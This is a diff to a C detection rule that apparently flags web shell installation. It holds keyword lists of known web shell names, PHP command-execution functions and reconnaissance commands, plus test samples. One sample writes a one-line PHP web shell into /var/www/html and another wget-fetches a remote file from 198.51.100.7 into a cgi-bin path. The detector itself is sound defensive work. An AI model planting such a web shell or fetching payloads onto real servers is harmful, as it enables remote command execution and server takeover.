@@ -3,7 +3,7 @@
 
 static const char *const words[] = {"<?php", "<%", "c99", "r57", "b374k", "weevely", "wso.php", "wso2", "/www", "/htdocs", "webapps", "/html", "sh", NULL};
 static const char *const known[] = {"c99.php", "c99shell", "r57.php", "r57shell", "b374k", "weevely", "wso.php", "wso2.php", "p0wny", "antsword", NULL};
-static const char *const runs[] = {"eval(", "system(", "passthru(", "shell_exec(", "assert(", "popen(", "proc_open(", "exec(", "getRuntime", NULL};
+static const char *const runs[] = {"eval", "system", "passthru", "shell_exec", "assert", "popen", "proc_open", "exec", "getRuntime", NULL};
 static const char *const web_users[] = {"www-data", "apache", "nginx", "httpd", "lighttpd", "http", "www", "tomcat", NULL};
 static const char *const first_commands[] = {"id", "whoami", "uname", "pwd", "ifconfig", "netstat", "wget", "curl", "tftp", "nc", "cat", "ls", "ps", "w", NULL};
 
@@ -64,7 +64,7 @@ static void judge(struct judging *judging)
 }
 
 static const struct rule_sample samples[] = {
-    {true, "$ sh -c 'echo \"<?php system($_GET[0]); ?>\" > /var/www/html/x.php'"},
+    {true, "$ sh -c 'echo \"<?php passthru($_GET[0]); ?>\" > /var/www/html/x.php'"},
     {true, "$ wget -O /www/cgi-bin/../status.php http://198.51.100.7/s.txt"},
     {true, "ProcessCreate {\"Executable\":\"/bin/dash\",\"CommandLine\":\"sh -c uname -a; id\",\"UserName\":\"www-data\",\"ProcessId\":9,\"ParentProcessId\":8}"},
     {false, "$ wget -O /var/www/html/logo.png https://cdn.example.org/logo.png"},
